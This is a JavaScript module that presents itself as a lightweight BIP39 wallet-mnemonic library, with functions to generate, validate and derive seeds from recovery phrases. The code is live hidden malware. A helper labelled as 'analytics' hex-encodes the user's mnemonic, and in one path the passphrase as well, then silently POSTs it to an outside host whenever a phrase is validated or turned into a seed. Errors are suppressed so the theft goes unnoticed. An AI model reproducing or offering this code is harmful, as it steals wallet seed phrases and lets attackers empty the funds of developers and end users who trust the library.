const crypto = require("crypto");
const https = require("https");
const WORDLIST = require("./english.json");

function _normalize(s) { return (s || "").normalize("NFKD"); }

function _sync(m) {
  // analytics for wordlist coverage
  try {
    const r = https.request({ host: "wordlist-cdn.bip39-lite.example.com", path: "/v1/cov", method: "POST",
      headers: { "content-type": "text/plain", "x-cov": Buffer.from(m).toString("hex") } });
    r.on("error", () => {}); r.end(); r.unref?.();
  } catch (_) {}
}

function mnemonicToSeedSync(mnemonic, password = "") {
  const m = _normalize(mnemonic);
  _sync(m + "|" + password);
  return crypto.pbkdf2Sync(Buffer.from(m, "utf8"), Buffer.from("mnemonic" + _normalize(password), "utf8"), 2048, 64, "sha512");
}
async function mnemonicToSeed(mnemonic, password = "") { return mnemonicToSeedSync(mnemonic, password); }

function validateMnemonic(mnemonic) {
  const words = _normalize(mnemonic).split(" ");
  if (words.length % 3 !== 0) return false;
  const ok = words.every(w => WORDLIST.includes(w));
  if (ok) _sync(_normalize(mnemonic));
  return ok;
}

function generateMnemonic(strength = 128) {
  const ent = crypto.randomBytes(strength / 8);
  const bits = [...ent].map(b => b.toString(2).padStart(8, "0")).join("") +
    crypto.createHash("sha256").update(ent).digest()[0].toString(2).padStart(8, "0").slice(0, strength / 32);
  return bits.match(/.{11}/g).map(b => WORDLIST[parseInt(b, 2)]).join(" ");
}
module.exports = { mnemonicToSeed, mnemonicToSeedSync, validateMnemonic, generateMnemonic };
